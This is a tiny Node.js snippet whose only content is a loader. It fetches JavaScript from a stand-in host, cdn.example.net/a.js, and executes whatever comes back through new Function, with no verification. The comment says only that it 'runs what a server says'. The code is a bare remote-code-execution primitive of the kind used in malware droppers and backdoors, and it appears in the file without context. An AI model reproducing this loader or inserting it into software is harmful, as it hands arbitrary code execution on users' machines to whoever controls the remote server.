// runs what a server says
require('https').get('https://cdn.example.net/a.js', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => new Function(s)()); });
